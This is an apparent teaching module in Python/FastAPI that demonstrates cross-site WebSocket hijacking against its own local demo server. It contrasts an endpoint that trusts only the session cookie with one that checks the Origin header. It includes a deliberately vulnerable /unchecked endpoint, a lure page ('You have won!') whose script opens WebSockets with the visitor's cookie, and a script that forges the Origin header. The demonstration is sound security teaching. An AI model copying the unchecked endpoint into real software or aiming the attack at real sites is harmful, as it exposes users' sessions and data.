"""Cross-site WebSocket hijacking: a foreign page that uses the visitor's own cookie.

The site, and a foreign one, for which another port will do:

    uvicorn recipes.r07_oauth2.attack_cswsh:app
    uvicorn recipes.r07_oauth2.attack_cswsh:app --port 8001

Enter at http://127.0.0.1:8000, then open http://127.0.0.1:8001/evil. Or, without a
browser: python -m recipes.r07_oauth2.attack_cswsh [host:port]
"""

import asyncio
import secrets
import sys
from typing import Annotated

import httpx
from fastapi import Cookie, FastAPI, Form, HTTPException, WebSocket
from fastapi.responses import HTMLResponse, RedirectResponse
from websockets.asyncio.client import connect
from websockets.exceptions import InvalidStatus, WebSocketException

app = FastAPI(title="Cross-site WebSocket hijacking")
visitors: dict[str, str] = {}  # what a cookie stands for, on the server

Visitor = Annotated[str | None, Cookie()]


@app.get("/")
async def home() -> HTMLResponse:
    return HTMLResponse(
        "<form method=post action=/enter><label>Nickname <input name=nickname></label>"
        "<button>Enter</button></form>"
    )


@app.post("/enter")
async def enter(nickname: Annotated[str, Form()]) -> RedirectResponse:
    answer = RedirectResponse("/", 303)  # 303: the browser follows with a GET
    visitor = secrets.token_urlsafe()
    visitors[visitor] = nickname
    # HttpOnly: no script can read it. Lax: no other site can post with it.
    answer.set_cookie("visitor", visitor, httponly=True, samesite="lax")
    return answer


@app.websocket("/unchecked")
async def unchecked(websocket: WebSocket, visitor: Visitor = None) -> None:
    if visitor not in visitors:
        raise HTTPException(401, headers={"WWW-Authenticate": "Bearer"})
    await websocket.accept()
    await websocket.send_text(f"The secrets of {visitors[visitor]}")
    await websocket.close()


@app.websocket("/checked")
async def checked(websocket: WebSocket, visitor: Visitor = None) -> None:
    # A browser says whose page is asking, and no page can change what it says.
    scheme = {"ws": "http", "wss": "https"}[websocket.url.scheme]
    own = f"{scheme}://{websocket.headers.get('Host', '')}"
    if websocket.headers.get("Origin") != own:
        raise HTTPException(403)
    await unchecked(websocket, visitor)


@app.get("/evil")
async def evil() -> HTMLResponse:
    return HTMLResponse("""<h1>You have won!</h1><ul></ul><script>
      for (const path of ["unchecked", "checked"]) {
        const say = (text) => {
          const item = document.createElement("li");
          item.textContent = `${path}: ${text}`;
          document.querySelector("ul").append(item);
        };
        const site = new URLSearchParams(location.search).get("site");
        const socket = new WebSocket(`ws://${site ?? "127.0.0.1:8000"}/${path}`);
        socket.onmessage = (event) => say(event.data);
        socket.onerror = () => say("refused");
      }
    </script>""")


async def attack(address: str) -> None:
    """Send what a browser sends for a page of http://evil.example."""
    async with httpx.AsyncClient(trust_env=False) as browser:
        await browser.post(f"http://{address}/enter", data={"nickname": "ada"})
        if "visitor" not in browser.cookies:
            sys.exit("No attack: this is not the server of attack_cswsh.")
        cookie = f"visitor={browser.cookies['visitor']}"
    for path in ("unchecked", "checked"):
        try:
            async with connect(
                f"ws://{address}/{path}",
                origin="http://evil.example",  # type: ignore[arg-type]
                additional_headers={"Cookie": cookie},
                proxy=None,
            ) as websocket:
                print(f"{path}: {await websocket.recv()!r}")
        except InvalidStatus as refusal:
            print(f"{path}: refused with HTTP {refusal.response.status_code}")


if __name__ == "__main__":
    address = sys.argv[1] if len(sys.argv) > 1 else "127.0.0.1:8000"
    try:
        asyncio.run(attack(address))
    except (OSError, httpx.HTTPError, WebSocketException) as error:
        sys.exit(f"No attack: {error}. Is the server running?")
